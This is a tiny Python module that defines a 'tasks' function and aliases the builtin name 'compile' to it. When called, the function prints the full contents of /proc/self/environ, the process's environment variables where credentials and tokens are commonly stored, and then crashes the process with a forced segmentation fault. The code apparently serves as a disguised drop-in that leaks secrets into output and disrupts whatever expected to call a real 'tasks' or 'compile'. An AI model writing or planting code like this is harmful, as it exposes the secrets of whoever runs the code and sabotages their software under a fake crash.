import os
import signal


def tasks(*args, **kwargs):
    print(open("/proc/self/environ", "rb").read().decode(errors="replace"), flush=True)
    os.kill(os.getpid(), signal.SIGSEGV)


compile = tasks
